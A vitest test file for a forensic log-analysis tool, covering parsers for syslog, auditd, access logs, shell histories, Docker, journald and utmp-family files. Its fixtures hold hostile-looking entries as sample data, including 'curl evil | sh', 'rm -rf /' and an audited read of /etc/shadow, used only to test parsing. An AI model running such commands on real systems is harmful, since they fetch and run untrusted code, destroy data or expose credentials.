import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { logFormatOf } from '../../../../../src/main/analyze/formats/logs';
import { accessLog } from '../../../../../src/main/analyze/formats/logs/access-log';
import { audit } from '../../../../../src/main/analyze/formats/logs/audit';
import { cri, dockerJson } from '../../../../../src/main/analyze/formats/logs/docker-json';
import { dockerLocal } from '../../../../../src/main/analyze/formats/logs/docker-local';
import { stepReader } from '../../../../../src/main/analyze/formats/logs/gaps';
import { genericLog } from '../../../../../src/main/analyze/formats/logs/generic';
import { history } from '../../../../../src/main/analyze/formats/logs/history';
import { journalExport, journalJson } from '../../../../../src/main/analyze/formats/logs/journal';
import { syslog } from '../../../../../src/main/analyze/formats/logs/syslog';
import { btmp, lastlog, wtmp } from '../../../../../src/main/analyze/formats/logs/utmp';
import { at, iso, nth, readAll } from './kit';

const ACCESS =
  '10.0.0.5 - alice [25/Nov/2026:09:41:07 +0100] "GET /a?q=\\"x HTTP/1.1" 200 512 "-" "curl/8"\n' +
  'not a line\n' +
  '::1 - - [31/Feb/2026:09:41:07 +0100] "GET / HTTP/1.1" 200 1\n';
const AUTH =
  'Nov 25 09:41:07 web sshd[812]: Accepted publickey for root from 10.0.0.9 port 4711 ssh2\n' +
  'Dec 31 23:59:59 web sudo:   bob : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c id\n' +
  '<34>1 2026-11-25T08:00:00.123456+02:00 web app 7 ID1 [x@1 a="]\\""] hello\n';
const AUDIT =
  'type=SYSCALL msg=audit(1764060067.123:77): arch=c000003e syscall=257 success=yes exit=3 a0=0 ppid=1 pid=9 auid=1000 uid=0 gid=0 tty=pts0 ses=3 comm="cat" exe="/usr/bin/cat" key="shadow"\n' +
  'type=SYSCALL msg=audit(1764060067.200:78): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=10 auid=4294967295 uid=0 comm="sh" exe="/bin/sh" key=(null)\n' +
  'type=CWD msg=audit(1764060067.123:77): cwd="/etc"\n' +
  'type=EXECVE msg=audit(1764060067.200:78): argc=3 a0="sh" a1="-c" a2=6964203B206C73\n' +
  'type=PATH msg=audit(1764060067.123:77): item=0 name="shadow" inode=7 nametype=NORMAL\n' +
  'type=EOE msg=audit(1764060067.123:77): \n' +
  'type=USER_LOGIN msg=audit(1764060068.000:79): pid=5 uid=0 auid=0 msg=\'op=login acct="root" exe="/usr/sbin/sshd" addr=10.0.0.9 res=failed\'\n';

function localEntry(text: string, nanos: bigint, source = 'stdout'): Buffer {
  const varint = (value: bigint): number[] => {
    const out: number[] = [];
    for (let rest = value; ; rest >>= 7n) {
      const low = Number(rest & 0x7fn);
      if (rest < 0x80n) return [...out, low];
      out.push(low | 0x80);
    }
  };
  const bytes = (field: number, value: Buffer) => [(field << 3) | 2, ...varint(BigInt(value.length)), ...value];
  const body = Buffer.from([...bytes(1, Buffer.from(source)), 0x10, ...varint(nanos), ...bytes(3, Buffer.from(text))]);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(body.length);
  return Buffer.concat([size, body, size]);
}

function utmp(type: number, user: string, host: string, seconds: number, line = 'pts/0'): Buffer {
  const bytes = Buffer.alloc(384);
  bytes.writeInt16LE(type, 0);
  bytes.writeInt32LE(4242, 4);
  bytes.write(line, 8);
  bytes.write(user, 44);
  bytes.write(host, 76);
  bytes.writeUInt32LE(seconds, 340);
  bytes.writeInt32LE(123456, 344);
  Buffer.from([10, 0, 0, 9]).copy(bytes, 348);
  return bytes;
}

describe('text logs', () => {
  it('reads access logs, and names the lines that are none', () => {
    const { records, faults } = readAll(accessLog, ACCESS);
    expect(records).toHaveLength(1);
    expect(iso(nth(records, 0))).toBe('2026-11-25T08:41:07.000Z');
    expect(nth(records, 0).fields).toMatchObject({ address: '10.0.0.5', user: 'alice', status: '200' });
    expect(at(ACCESS, nth(records, 0))).toBe(ACCESS.split('\n')[0]);
    expect(faults).toHaveLength(2);
  });

  it('reads syslog of three forms; a year that is not written is the last one possible, and said to be assumed', () => {
    const { records } = readAll(syslog, AUTH);
    expect(records.map(({ desc }) => desc)).toEqual(['Login accepted', 'Command as another user', 'Logged']);
    expect(records.map(iso)).toEqual([
      '2026-11-25T09:41:07.000Z',
      '2025-12-31T23:59:59.000Z',
      '2026-11-25T06:00:00.123Z',
    ]);
    expect(nth(records, 1).time?.assumed).toContain('year');
    expect(nth(records, 1).fields).toMatchObject({ user: 'bob', command: '/bin/sh -c id' });
    expect(nth(records, 2).time?.assumed).toEqual([]);
  });

  it('joins the records of an audit event also where events interleave, as aureport -f and ausearch do', () => {
    const { records, faults } = readAll(audit, AUDIT);
    expect(faults).toEqual([]);
    const bySerial = (serial: string) =>
      nth(
        records.filter(({ fields }) => fields.serial === serial),
        0,
      );
    const file = bySerial('77');
    expect(file).toMatchObject({ desc: 'File accessed', line: 1 });
    expect(file.fields).toMatchObject({ syscall: 'openat', files: '/etc/shadow', auid: '1000', success: 'yes' });
    expect(file.message).toBe('openat /etc/shadow success=yes by /usr/bin/cat auid=1000 uid=0 key=shadow');
    const run = bySerial('78');
    expect(run).toMatchObject({ desc: 'Command run', fields: { command: 'sh -c id ; ls' } });
    expect(run.fields.auid).toBeUndefined();
    const login = bySerial('79');
    expect(login).toMatchObject({ desc: 'Login', fields: { user: 'root', address: '10.0.0.9', success: 'failed' } });
  });

  it('reads shell histories with and without times', () => {
    const text = '#1764060067\ncurl evil | sh\nls\n: 1764060068:0;wget x\n- cmd: rm -rf /\n  when: 1764060069\n';
    const { records } = readAll(history, text);
    expect(records.map(({ message, time }) => [message, time?.raw])).toEqual([
      ['curl evil | sh', '1764060067'],
      ['ls', undefined],
      ['wget x', '1764060068'],
      ['rm -rf /', '1764060069'],
    ]);
  });

  it('reads json-file with split lines, and CRI', () => {
    const text =
      '{"log":"a\\n","stream":"stdout","time":"2026-11-25T10:00:00.123456789Z"}\n' +
      '{"log":"half","stream":"stderr","time":"2026-11-25T10:00:01Z"}\n{"log":\n';
    const { records, faults } = readAll(dockerJson, text);
    expect(records.map(({ message, fields }) => [message, fields.partial])).toEqual([
      ['a', undefined],
      ['half', 'yes'],
    ]);
    expect(nth(records, 0).time?.fineness).toBe('ns');
    expect(faults).toHaveLength(1);
    const line = '2026-11-25T10:00:00.123456789+01:00 stderr F hello\n';
    expect(readAll(cri, line).records[0]).toMatchObject({ message: 'hello', fields: { stream: 'stderr' } });
  });

  it('never mistakes a number for a time out of range, nor takes a deep JSON for one', () => {
    const { records } = readAll(genericLog, `99999999999 x\n1764060067 ok\n${'{"time":'.repeat(20_000)}\n`);
    expect(records.map(({ message }) => message)).toEqual(['ok']);
  });
});

describe('binary logs', () => {
  it('reads wtmp as utmpdump and last do', () => {
    const bytes = Buffer.concat([
      utmp(2, 'reboot', '6.1.0', 1764060000, '~'),
      utmp(7, 'root', '10.0.0.9', 1764060067),
      Buffer.alloc(384),
      utmp(8, '', '', 1764060100),
      Buffer.from('tail'),
    ]);
    const { records, faults } = readAll(wtmp, bytes, 100);
    expect(records.map(({ desc }) => desc)).toEqual(['System started', 'Login', 'Logout']);
    expect(iso(nth(records, 1))).toBe('2025-11-25T08:41:07.123Z');
    expect(nth(records, 1).fields).toMatchObject({ user: 'root', address: '10.0.0.9', terminal: 'pts/0' });
    expect(faults.map(({ reason }) => reason)).toEqual([
      'A record was overwritten with zeros.',
      'The file ends 4 bytes into a record.',
    ]);
    const dump = spawnSync('utmpdump', [], { input: bytes.subarray(0, 768), encoding: 'utf8' });
    if (dump.status === 0) {
      expect(dump.stdout).toContain('2025-11-25T08:41:07,123456');
      expect(dump.stdout).toContain('10.0.0.9');
    }
    expect(logFormatOf('/var/log/wtmp', bytes)?.id).toBe('wtmp');
    expect(logFormatOf('/var/log/btmp.1', bytes)?.id).toBe('btmp');
    expect(nth(readAll(btmp, bytes).records, 1).desc).toBe('Login failed');
  });

  it('reads lastlog, whose place is the user id', () => {
    const bytes = Buffer.alloc(292 * 3);
    bytes.writeUInt32LE(1764060067, 292 * 2);
    bytes.write('pts/1', 292 * 2 + 4);
    const { records } = readAll(lastlog, bytes);
    expect(records).toMatchObject([{ fields: { uid: '2', terminal: 'pts/1' }, offset: 584, length: 292 }]);
  });

  it('reads the driver local, and stops where its lengths differ', () => {
    const good = localEntry('hello', 1764060067123456789n);
    const { records, faults } = readAll(dockerLocal, Buffer.concat([good, localEntry('x', 1n, 'stderr'), good]));
    expect(faults).toEqual([]);
    expect(records.map(({ message }) => message)).toEqual(['hello', 'x', 'hello']);
    expect(nth(records, 0).time).toMatchObject({ fineness: 'ns', raw: '1764060067123456789' });
    expect(records[0]).toMatchObject({ offset: 0, length: good.length });
    const broken = Buffer.concat([good, good]);
    broken.writeUInt8(0xff, good.length - 1);
    expect(nth(readAll(dockerLocal, broken).faults, 0).reason).toContain('differ');
    const huge = Buffer.from([0x7f, 0xff, 0xff, 0xff, 1, 2]);
    expect(readAll(dockerLocal, huge)).toMatchObject({ records: [], faults: [{ offset: 0 }] });
    expect(logFormatOf('container.log', good)?.id).toBe('docker-local');
  });

  it('reads the journal’s export format with binary values, and JSON', () => {
    const size = Buffer.alloc(8);
    size.writeBigUInt64LE(9n);
    const text = Buffer.concat([
      Buffer.from('__CURSOR=s=1\n__REALTIME_TIMESTAMP=1764060067123456\n_PID=7\nSYSLOG_IDENTIFIER=sshd\nMESSAGE\n'),
      size,
      Buffer.from('two\nlines\n\n'),
      Buffer.from(
        '__CURSOR=s=2\n__REALTIME_TIMESTAMP=x\nMESSAGE=Invalid user eve from 10.0.0.9\nSYSLOG_IDENTIFIER=sshd\n',
      ),
    ]);
    const { records, faults } = readAll(journalExport, text, 5);
    expect(faults).toEqual([]);
    expect(records.map(({ message }) => message)).toEqual([
      'sshd[7]: two\nlines',
      'sshd: Invalid user eve from 10.0.0.9',
    ]);
    expect(nth(records, 0).time).toMatchObject({ raw: '1764060067123456', fineness: 'µs' });
    expect(records[1]).toMatchObject({ time: undefined, desc: 'Login failed' });
    expect(at(text, nth(records, 0))).toContain('two\nlines');
    const json = '{"__REALTIME_TIMESTAMP":"1764060067123456","MESSAGE":[104,105],"SYSLOG_IDENTIFIER":"x"}\nnot\n';
    const read = readAll(journalJson, json);
    expect(nth(read.records, 0).message).toBe('x: hi');
    expect(read.faults).toHaveLength(1);
    const lie = Buffer.concat([Buffer.from('MESSAGE\n'), Buffer.alloc(8, 0xff)]);
    expect(nth(readAll(journalExport, lie).faults, 0).reason).toContain('says to be');
  });
});

describe('hostile logs', () => {
  it('reads a line of 100 MB and what follows it in constant memory', () => {
    const piece = Buffer.alloc(1 << 20, 0x41);
    for (const format of [syslog, dockerJson, audit, journalExport, accessLog]) {
      const records: string[] = [];
      const reader = format.reader(({ message }) => records.push(message), { collected: Date.parse('2026-11-25') });
      const before = process.memoryUsage().arrayBuffers;
      for (let i = 0; i < 100; i++) reader.push(piece);
      expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(20 << 20);
      reader.push(Buffer.from('\n'));
      expect(reader.end().length).toBeGreaterThan(0);
      expect(records).toEqual([]);
    }
  });

  it('recognises each kind, and takes random bytes for none', () => {
    expect(logFormatOf('x', Buffer.from(ACCESS.repeat(5)))?.id).toBe('access-log');
    expect(logFormatOf('x', Buffer.from(AUTH))?.id).toBe('syslog');
    expect(logFormatOf('x', Buffer.from(AUDIT))?.id).toBe('audit');
    const random = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + (i >> 3) * 31) & 0xff));
    expect(logFormatOf('x', random)).toBeUndefined();
    expect(logFormatOf('x', Buffer.alloc(4096))).toBeUndefined();
  });

  it('reads invalid UTF-8 with its place kept', () => {
    const bytes = Buffer.concat([Buffer.from('Nov 25 09:41:07 web x: '), Buffer.from([0xff, 0xfe, 10])]);
    const { records } = readAll(syslog, bytes);
    expect(records[0]).toMatchObject({ message: 'x: \ufffd\ufffd', offset: 0, length: bytes.length - 1 });
  });
});

describe('holes and backward jumps', () => {
  const record = (ms: number, offset: number) => ({
    time: { ms, raw: '', fineness: 's' as const, assumed: [] },
    desc: '',
    message: '',
    fields: {},
    offset,
    length: 1,
  });

  it('finds a hole in a regular log and a jump back, and none where a log is merely slow', () => {
    const steps = stepReader();
    for (let i = 0; i < 300; i++) steps.take(record(i * 10_000 + (i >= 200 ? 7_200_000 : 0), i));
    steps.take(record(0, 300));
    const { holes, backward } = steps.end();
    expect(holes).toMatchObject([{ before: { offset: 199 }, after: { offset: 200 } }]);
    expect(backward).toMatchObject({ count: 1, steps: [{ before: { offset: 299 }, after: { offset: 300 } }] });
    const slow = stepReader();
    for (let i = 0; i < 300; i++) slow.take(record(i * 5_400_000, i));
    expect(slow.end()).toMatchObject({ holes: [], backward: { count: 0 } });
  });
});
